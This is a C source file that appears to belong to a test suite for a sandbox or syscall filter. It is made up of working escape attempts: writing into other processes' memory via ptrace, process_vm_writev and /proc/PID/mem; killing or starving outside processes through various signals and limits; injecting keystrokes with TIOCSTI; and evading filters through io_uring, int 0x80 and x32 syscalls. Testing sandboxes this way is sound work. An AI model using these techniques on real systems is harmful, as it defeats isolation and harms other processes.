/* processes.c: ways into other processes, and out of the filter's sight. */
#include <asm/sockios.h>
#include <linux/io_uring.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/uio.h>

#include "attack.h"

/* ---- a sibling whose memory says whether it may go on ---- */

static volatile char *const word = (char[8]){"wait"};

/* Makes the marker when somebody has changed its word. */
static pid_t sibling(void)
{
    pid_t pid = fork();
    if (pid) return pid;
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    for (int i = 0; i < 100 && *word != 'g'; i++)
        usleep(10000);
    if (*word == 'g') put_file("marker", "");
    _exit(0);
}

ATTACK(a_siblings_memory, GOAL_RUN, "", "process_vm_writev into another process of the run")
{
    pid_t pid = sibling();
    struct iovec here = {"go", 2}, there = {(char *)word, 2};
    process_vm_writev(pid, &here, 1, &there, 1, 0);
    waitpid(pid, NULL, 0);
}

ATTACK(a_siblings_memory_as_a_file, GOAL_RUN, "", "/proc/PID/mem of another process of the run")
{
    char path[64];
    pid_t pid = sibling();
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    if (pwrite(open(path, O_RDWR), "go", 2, (off_t)(uintptr_t)word) < 0) perror("pwrite");
    waitpid(pid, NULL, 0);
}

ATTACK(a_sibling_traced, GOAL_RUN, "", "PTRACE_SEIZE of another process of the run, and PTRACE_POKEDATA")
{
    pid_t pid = sibling();
    union {
        char text[8];
        long number;
    } go = {"go"};
    if (!ptrace(PTRACE_ATTACH, pid, 0, 0)) {
        waitpid(pid, NULL, 0);
        ptrace(PTRACE_POKEDATA, pid, word, go.number);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    waitpid(pid, NULL, 0);
}

/* ---- a process outside the run ---- */

ATTACK(a_signal, GOAL_KILL, "", "kill of a process outside")
{
    kill(number_of("OUTSIDER"), SIGKILL);
}

ATTACK(a_signal_to_a_thread, GOAL_KILL, "", "tgkill of a process outside")
{
    syscall(SYS_tgkill, number_of("OUTSIDER"), number_of("OUTSIDER"), SIGKILL);
}

ATTACK(a_queued_signal, GOAL_KILL, "", "rt_sigqueueinfo to a process outside")
{
    siginfo_t info = {.si_signo = SIGTERM, .si_code = SI_QUEUE};
    syscall(SYS_rt_sigqueueinfo, number_of("OUTSIDER"), SIGTERM, &info);
}

ATTACK(a_signal_by_descriptor, GOAL_KILL, "", "pidfd_send_signal to a process outside")
{
    syscall(SYS_pidfd_send_signal, syscall(SYS_pidfd_open, number_of("OUTSIDER"), 0), SIGKILL, NULL, 0);
}

ATTACK(a_signal_for_its_input, GOAL_KILL, "", "F_SETOWN and F_SETSIG: the kernel sends the signal")
{
    int pair[2];
    if (pipe(pair)) return;
    fcntl(pair[0], F_SETOWN, number_of("OUTSIDER"));
    fcntl(pair[0], F_SETSIG, SIGTERM);
    fcntl(pair[0], F_SETFL, O_ASYNC);
    if (write(pair[1], "x", 1) < 0) perror("write");
    usleep(50000);
}

ATTACK(a_signal_for_its_input_said_otherwise, GOAL_KILL, "",
       "the same by F_SETOWN_EX, which names it behind a pointer")
{
    int pair[2];
    const struct f_owner_ex owner = {F_OWNER_PID, number_of("OUTSIDER")};
    if (pipe(pair)) return;
    fcntl(pair[0], F_SETOWN_EX, &owner);
    fcntl(pair[0], F_SETSIG, SIGTERM);
    fcntl(pair[0], F_SETFL, O_ASYNC);
    if (write(pair[1], "x", 1) < 0) perror("write");
    usleep(50000);
}

static void signal_for_a_socket(unsigned long command)
{
    int pair[2], outsider = number_of("OUTSIDER");
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return;
    ioctl(pair[0], command, &outsider);
    fcntl(pair[0], F_SETSIG, SIGTERM);
    fcntl(pair[0], F_SETFL, O_ASYNC);
    if (write(pair[1], "x", 1) < 0) perror("write");
    usleep(50000);
}

ATTACK(a_signal_for_a_socket, GOAL_KILL, "", "FIOSETOWN of a socket: the kernel sends the signal")
{
    signal_for_a_socket(FIOSETOWN);
}

ATTACK(a_signal_for_a_socket_said_otherwise, GOAL_KILL, "",
       "SIOCSPGRP of a socket: the kernel sends the signal")
{
    signal_for_a_socket(SIOCSPGRP);
}

ATTACK(a_limit_for_an_outsider, GOAL_KILL, "", "prlimit: no descriptors for a process outside")
{
    const struct rlimit none = {0, 0};
    prlimit(number_of("OUTSIDER"), RLIMIT_NOFILE, &none, NULL);
}

ATTACK(an_outsider_traced, GOAL_KILL, "", "PTRACE_SEIZE with PTRACE_O_EXITKILL of a process outside")
{
    if (ptrace(PTRACE_SEIZE, number_of("OUTSIDER"), 0, 0x100000 /* PTRACE_O_EXITKILL */)) perror("ptrace");
}

ATTACK(an_outsiders_memory, GOAL_KILL, "", "process_vm_writev over the memory of a process outside")
{
    char zeros[4096] = {0};
    struct iovec here = {zeros, sizeof zeros};
    struct iovec there = {(void *)(uintptr_t)strtoull(of_environment("OUTSIDER_WORD"), NULL, 0), 1};
    here.iov_len = 1;
    process_vm_writev(number_of("OUTSIDER"), &here, 1, &there, 1, 0);
}

ATTACK(an_outsiders_memory_as_a_file, GOAL_KILL, "", "/proc/PID/mem of a process outside")
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", number_of("OUTSIDER"));
    off_t at = (off_t)strtoull(of_environment("OUTSIDER_WORD"), NULL, 0);
    if (pwrite(open(path, O_RDWR), "", 1, at) < 0) perror("pwrite");
}

ATTACK(an_outsider_without_a_processor, GOAL_KILL, "",
       "sched_setscheduler: a process outside gets only idle time")
{
    const struct sched_param none = {0};
    if (!sched_setscheduler(number_of("OUTSIDER"), 5 /* SCHED_IDLE */, &none)) return;
    perror("sched_setscheduler");
}

ATTACK(an_outsider_made_slow, GOAL_KILL, "", "setpriority: a process outside gets the last rank")
{
    setpriority(PRIO_PROCESS, (id_t)number_of("OUTSIDER"), 19);
}

ATTACK(typed_into_the_terminal, GOAL_RUN, "", "TIOCSTI: a line typed for whoever reads the terminal next")
{
    int fd = open("/dev/tty", O_RDWR);
    for (const char *at = "typed\n"; fd >= 0 && *at; at++)
        ioctl(fd, TIOCSTI, at);
}

/* ---- calls that no filter sees ---- */

ATTACK(a_ring_of_calls, GOAL_READ, "", "io_uring opens and reads")
{
    struct io_uring_params parameters = {0};
    int ring = (int)syscall(425, 4, &parameters);
    if (ring < 0) return;
    size_t size = parameters.sq_off.array + parameters.sq_entries * sizeof(unsigned);
    char *queue = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    char *done = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *entries =
        mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    if (queue == MAP_FAILED || done == MAP_FAILED || entries == MAP_FAILED) return;
    memset(entries, 0, sizeof *entries);
    entries[0].opcode = IORING_OP_OPENAT;
    entries[0].fd = AT_FDCWD;
    entries[0].addr = (uint64_t)(uintptr_t)SECRET;
    ((unsigned *)(void *)(queue + parameters.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(void *)(queue + parameters.sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(426, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 1) return;
    show(((struct io_uring_cqe *)(void *)(done + parameters.cq_off.cqes))[0].res);
}

#ifdef __x86_64__
/* The table of 32-bit programs, from a 64-bit one: addresses must lie low. */
static long narrow(long number, long a, long b, long c)
{
    long result;
    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "a"(number), "b"(a), "c"(b), "d"(c)
                     : "memory", "r8", "r9", "r10", "r11");
    return result;
}

static char *low_page(const char *text)
{
    char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (page == MAP_FAILED) exit(1);
    strcpy(page, text);
    return page;
}

ATTACK(opened_by_the_other_table, GOAL_READ, "", "int 0x80: open of the 32-bit table")
{
    show((int)narrow(5, (long)low_page(SECRET), O_RDONLY, 0));
}

ATTACK(executed_by_the_other_table, GOAL_RUN, "", "int 0x80: execve of the 32-bit table")
{
    narrow(11, (long)low_page(FORBIDDEN), 0, 0);
}

ATTACK(removed_by_the_other_table, GOAL_CHANGE, "", "int 0x80: unlink of the 32-bit table")
{
    narrow(10, (long)low_page(PRECIOUS), 0, 0);
}

ATTACK(the_third_table, GOAL_RECORD, "", "x32: openat with bit 30 in its number")
{
    show((int)syscall(0x40000000 | SYS_openat, AT_FDCWD, SECRET, O_RDONLY));
}
#endif
